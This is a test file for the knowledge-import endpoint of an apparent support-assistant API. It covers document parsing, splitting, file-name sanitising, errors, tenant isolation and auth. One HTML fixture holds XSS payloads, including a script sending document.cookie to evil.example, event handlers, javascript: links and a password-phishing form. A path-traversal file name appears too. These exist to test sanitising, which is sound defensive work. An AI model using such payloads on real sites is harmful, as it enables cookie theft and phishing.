import { ARTICLE_LIMITS, KNOWLEDGE_SOURCE_LIMITS, type KnowledgeArticle } from '@aurion/contract'
import { Document, HeadingLevel, Packer, Paragraph } from 'docx'
import { PDFDocument, StandardFonts } from 'pdf-lib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  buildTestApp,
  createTestTenant,
  forEachDialect,
  type TestApp,
  type TestTenant,
} from '../../../test/helpers.ts'
import { multipart, type Part } from '../../../test/multipart.ts'
import { postWidget } from '../../../test/widget-support.ts'

const file = (data: Buffer | string, filename: string, type: string): Part => ({
  name: 'file',
  filename,
  type,
  data: typeof data === 'string' ? Buffer.from(data) : data,
})

async function pdfFile(): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  pdf.setTitle('Grinder care guide')
  const font = await pdf.embedFont(StandardFonts.Helvetica)
  const page = pdf.addPage()
  page.drawText('Clean the burrs of the grinder once a month with a dry brush.', {
    x: 50,
    y: 720,
    font,
    size: 12,
  })
  return Buffer.from(await pdf.save())
}

async function docxFile(): Promise<Buffer> {
  const doc = new Document({
    sections: [
      {
        children: [
          new Paragraph({ text: 'Loyalty card', heading: HeadingLevel.HEADING_1 }),
          new Paragraph('Every tenth coffee is free with the loyalty card.'),
          new Paragraph({ text: 'Lost cards', heading: HeadingLevel.HEADING_2 }),
          new Paragraph('A lost card is replaced at the counter; the stamps move to the new card.'),
        ],
      },
    ],
  })
  return Packer.toBuffer(doc)
}

/** A page full of things that must never reach an article: scripts, handlers, frames, styles. */
const HOSTILE_HTML = `<!doctype html><html><head><title>Opening hours</title>
<style>body{background:url(javascript:alert(1))}</style>
<script>fetch('https://evil.example/steal?c='+document.cookie)</script></head>
<body><nav><a href="/">Home</a></nav>
<main><h1>Opening hours</h1>
<p onclick="alert('click')">The shop opens at eight every weekday and at nine on Saturdays.</p>
<img src="x" onerror="alert('img')">
<iframe src="https://evil.example/frame"></iframe>
<h2>Holidays</h2><p>We close on public holidays <a href="javascript:alert('link')">see the list</a>.</p>
<svg><script>alert('svg')</script></svg>
<form action="https://evil.example/phish"><input name="password"></form>
</main></body></html>`

forEachDialect('knowledge import: POST /api/v1/knowledge/import', (dialect) => {
  let t: TestApp
  let a: TestTenant
  let b: TestTenant
  beforeAll(async () => {
    t = await buildTestApp({ dialect })
    a = await createTestTenant(t.db, { name: 'A' })
    b = await createTestTenant(t.db, { name: 'B' })
  })
  afterAll(async () => t?.close())

  const upload = (parts: Part[], key = a.apiKey) => {
    const { payload, contentType } = multipart(parts)
    return t.app.inject({
      method: 'POST',
      url: '/api/v1/knowledge/import',
      headers: { 'x-api-key': key, 'content-type': contentType },
      payload,
    })
  }
  const list = async (key = a.apiKey) =>
    (
      await t.app.inject({
        method: 'GET',
        url: '/api/v1/knowledge/articles?limit=100',
        headers: { 'x-api-key': key },
      })
    ).json().items as KnowledgeArticle[]

  it('imports Markdown: the first heading is the title, the file name the citation', async () => {
    const res = await upload([
      file(
        '# Shipping to Norway\n\nParcels to Norway clear customs in two days; duties are paid on delivery.\n',
        'norway.md',
        'text/markdown',
      ),
    ])
    expect(res.statusCode).toBe(201)
    const [article] = res.json().items as KnowledgeArticle[]
    expect(article).toMatchObject({
      title: 'Shipping to Norway',
      source_file: 'norway.md',
      source_url: null,
    })
    expect(article!.body).toContain('duties are paid on delivery')
    expect(article!.body).not.toContain('# Shipping to Norway')
    // The assistant's answer from it cites the file by its name.
    const answer = await postWidget(t.app, '/api/v1/widget/messages', {
      tenant_id: a.tenantId,
      public_key: a.publicKey,
      body: 'Do I pay customs duties on a parcel to Norway?',
    })
    expect(answer.statusCode).toBe(200)
    expect(answer.json().sources).toEqual([{ title: 'norway.md' }])
  })

  it('imports a PDF (its metadata title) and a DOCX (headings kept as sections)', async () => {
    const pdf = await upload([file(await pdfFile(), 'grinder.pdf', 'application/pdf')])
    expect(pdf.statusCode).toBe(201)
    expect(pdf.json().items[0]).toMatchObject({
      title: 'Grinder care guide',
      source_file: 'grinder.pdf',
    })
    expect(pdf.json().items[0].body).toContain('dry brush')
    const docx = await upload([
      file(
        await docxFile(),
        'loyalty.docx',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      ),
    ])
    expect(docx.statusCode).toBe(201)
    const article = docx.json().items[0] as KnowledgeArticle
    expect(article.title).toBe('Loyalty card')
    expect(article.body).toContain('## Lost cards')
    expect(article.body).toContain('Every tenth coffee is free')
  })

  it('keeps the text of an HTML file and strips scripts, handlers, frames, forms and styles', async () => {
    const res = await upload([file(HOSTILE_HTML, 'hours.html', 'text/html')])
    expect(res.statusCode).toBe(201)
    const article = res.json().items[0] as KnowledgeArticle
    expect(article.title).toBe('Opening hours')
    expect(article.body).toContain('The shop opens at eight every weekday')
    expect(article.body).toContain('## Holidays')
    expect(article.body).toContain('see the list')
    for (const bad of [
      '<',
      'script',
      'alert',
      'onerror',
      'onclick',
      'javascript:',
      'evil.example',
      'password',
      'background',
      'cookie',
    ])
      expect(article.body.toLowerCase()).not.toContain(bad)
  })

  it('splits a document longer than an article at its sections', async () => {
    const section = (n: number) =>
      `## Step ${n}\n\n${`Turn the dial to setting ${n} and wait for the light. `.repeat(250)}\n\n`
    const text = `# Long manual\n\n${Array.from({ length: 4 }, (_, i) => section(i + 1)).join('')}`
    expect(text.length).toBeGreaterThan(ARTICLE_LIMITS.body.max)
    const res = await upload([file(text, 'manual.md', 'text/markdown')])
    expect(res.statusCode).toBe(201)
    const items = res.json().items as KnowledgeArticle[]
    expect(items.length).toBeGreaterThan(1)
    items.forEach((x, i) => {
      expect(x.title).toBe(`Long manual (part ${i + 1} of ${items.length})`)
      expect(x.body.length).toBeLessThanOrEqual(ARTICLE_LIMITS.body.max)
      expect(x.body.startsWith('## Step')).toBe(true)
      expect(x.source_file).toBe('manual.md')
    })
  })

  it('stores a safe file name: path, control and direction-override characters dropped', async () => {
    const res = await upload([
      file('Decaf is brewed the same way.', '../../etc/\u202Etxt.decaf\u0007.md', 'text/markdown'),
    ])
    expect(res.statusCode).toBe(201)
    expect(res.json().items[0].source_file).toBe('txt.decaf.md')
  })

  it(`413 {"detail"} for a file over ${KNOWLEDGE_SOURCE_LIMITS.importBytes / 1024 / 1024} MB; nothing stored`, async () => {
    const before = (await list()).length
    const big = Buffer.alloc(KNOWLEDGE_SOURCE_LIMITS.importBytes + 1, 'a')
    const res = await upload([file(big, 'big.txt', 'text/plain')])
    expect(res.statusCode).toBe(413)
    expect(res.json()).toEqual({ detail: 'File too large: at most 20 MB' })
    expect((await list()).length).toBe(before)
  })

  it.each([
    ['an image', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'photo.png', 'image/png'],
    ['text named .pdf', Buffer.from('not a pdf at all'), 'fake.pdf', 'application/pdf'],
    [
      'a zip that is no DOCX',
      Buffer.from('504b0304deadbeef', 'hex'),
      'data.zip',
      'application/zip',
    ],
    ['binary named .txt', Buffer.from([0x00, 0x01, 0x02, 0xff]), 'blob.txt', 'text/plain'],
    ['a spreadsheet', Buffer.from('a,b\n1,2\n'), 'sheet.csv', 'text/csv'],
  ])('415 {"detail"} for %s', async (_name, data, filename, type) => {
    const res = await upload([file(data, filename, type)])
    expect(res.statusCode).toBe(415)
    expect(res.json().detail).toMatch(/PDF, DOCX, HTML, Markdown or plain text/)
  })

  it.each([
    ['a broken PDF', Buffer.from('%PDF-1.7\n garbage'), 'broken.pdf', /not a readable PDF/],
    ['a broken DOCX', Buffer.from('504b030414000000', 'hex'), 'broken.docx', /not a readable DOCX/],
    ['an empty file', Buffer.alloc(0), 'empty.md', /empty/],
    ['a file of only whitespace', Buffer.from(' \n\t\n'), 'blank.txt', /no text/],
  ])('422 on body.file for %s', async (_name, data, filename, message) => {
    const res = await upload([file(data, filename, 'application/octet-stream')])
    expect(res.statusCode).toBe(422)
    expect(res.json().detail[0].loc).toEqual(['body', 'file'])
    expect(res.json().detail[0].msg).toMatch(message)
  })

  it('422 without a file, with two files or a file under another name; 415 for JSON; 400 for a cut body', async () => {
    const none = await upload([{ name: 'note', value: 'hi' }])
    expect(none.statusCode).toBe(422)
    expect(none.json().detail[0].loc).toEqual(['body', 'file'])
    const two = await upload([file('a', 'a.txt', 'text/plain'), file('b', 'b.txt', 'text/plain')])
    expect(two.statusCode).toBe(422)
    const other = await upload([{ ...file('a', 'a.txt', 'text/plain'), name: 'document' }])
    expect(other.statusCode).toBe(422)
    const json = await t.app.inject({
      method: 'POST',
      url: '/api/v1/knowledge/import',
      headers: { 'x-api-key': a.apiKey },
      payload: { file: 'hello' },
    })
    expect(json.statusCode).toBe(415)
    expect(typeof json.json().detail).toBe('string')
    const { payload, contentType } = multipart([file('Some text', 'a.txt', 'text/plain')])
    const cut = await t.app.inject({
      method: 'POST',
      url: '/api/v1/knowledge/import',
      headers: { 'x-api-key': a.apiKey, 'content-type': contentType },
      payload: payload.subarray(0, payload.length - 20),
    })
    expect(cut.statusCode).toBeGreaterThanOrEqual(400)
    expect(cut.statusCode).toBeLessThan(500)
    expect(typeof cut.json().detail).toBe('string')
  })

  it('tenant isolation: B never sees A’s imports, and its own import stays its own', async () => {
    const res = await upload(
      [
        file(
          '# Tenant B only\n\nThe secret blend of B is roasted on Fridays.',
          'b.md',
          'text/plain',
        ),
      ],
      b.apiKey,
    )
    expect(res.statusCode).toBe(201)
    const bs = await list(b.apiKey)
    expect(bs.map((x) => x.title)).toEqual(['Tenant B only'])
    const as = await list()
    expect(as.some((x) => x.title === 'Tenant B only')).toBe(false)
    expect(as.length).toBeGreaterThan(0)
    const foreign = await t.app.inject({
      method: 'GET',
      url: `/api/v1/knowledge/articles/${as[0]!.id}`,
      headers: { 'x-api-key': b.apiKey },
    })
    expect(foreign.statusCode).toBe(404)
  })
})

describe('knowledge import: auth', () => {
  let t: TestApp
  beforeAll(async () => {
    t = await buildTestApp()
  })
  afterAll(async () => t?.close())

  it('401 without a key, 403 with knowledge:read only (before the body is read)', async () => {
    const reader = await createTestTenant(t.db, { scopes: ['knowledge:read'] })
    const { payload, contentType } = multipart([file('Text', 'a.txt', 'text/plain')])
    const anon = await t.app.inject({
      method: 'POST',
      url: '/api/v1/knowledge/import',
      headers: { 'content-type': contentType },
      payload,
    })
    expect(anon.statusCode).toBe(401)
    const ro = await t.app.inject({
      method: 'POST',
      url: '/api/v1/knowledge/import',
      headers: { 'x-api-key': reader.apiKey, 'content-type': contentType },
      payload,
    })
    expect(ro.statusCode).toBe(403)
    expect(ro.json()).toEqual({ detail: 'API key missing required scope: knowledge:write' })
  })
})
